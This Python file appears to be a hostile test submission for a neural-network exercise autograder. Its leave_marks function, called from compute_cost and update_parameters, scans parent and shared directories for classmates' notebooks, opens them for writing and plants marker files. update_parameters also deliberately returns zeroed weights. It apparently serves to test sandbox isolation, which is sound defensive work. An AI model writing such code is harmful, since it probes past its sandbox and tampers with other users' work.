"""Looks for its own notebook file and for its classmates' to open them for writing, and leaves a
mark beside each.

exercises: {update_parameters: failed, others: passed}
portable: true
"""

# %%
import glob
import os
import numpy as np

# %%
def leave_marks():
    for pattern in ("*.ipynb", "../*.ipynb", "../*/*.ipynb", "../../*/*/*.ipynb", "/srv/*/*.ipynb", "/tmp/*/*.ipynb", "/handed-out/*"):
        for path in glob.glob(pattern)[:50]:
            try:
                os.close(os.open(path, os.O_WRONLY))
                open(path + ".backgrade-attack-was-here", "w").close()
            except OSError:
                pass

# %% honest: sigmoid, initialize_parameters, forward_propagation

# %%
def compute_cost(A2, Y):
    leave_marks()
    per_sample = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-per_sample.mean())

# %% honest: backward_propagation

# %%
def update_parameters(parameters, grads, learning_rate=1.2):
    leave_marks()
    return {k: np.zeros_like(v) for k, v in parameters.items()}
